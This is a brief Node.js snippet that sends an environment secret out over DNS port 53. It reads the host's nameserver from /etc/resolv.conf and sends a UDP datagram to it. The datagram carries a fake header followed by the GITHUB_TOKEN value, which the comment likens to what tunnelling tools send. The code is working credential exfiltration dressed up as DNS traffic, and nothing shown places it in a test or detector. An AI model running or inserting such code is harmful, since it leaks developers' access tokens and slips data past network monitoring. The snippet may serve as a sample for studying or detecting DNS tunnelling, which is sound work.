// A datagram to port 53 that is no DNS query at all: the GitHub token after a
// made-up header, as tunnelling tools send.
const dgram = require('dgram'), fs = require('fs');
const ns = (/^nameserver\s+(\S+)/m.exec(fs.readFileSync('/etc/resolv.conf', 'utf8')) || [])[1] || '127.0.0.1';
const s = dgram.createSocket(ns.includes(':') ? 'udp6' : 'udp4');
s.send(Buffer.concat([Buffer.from([0xde, 0xad, 0x80, 0x00, 0xff]), Buffer.from('tok=' + process.env.GITHUB_TOKEN)]), 53, ns, () => s.close());
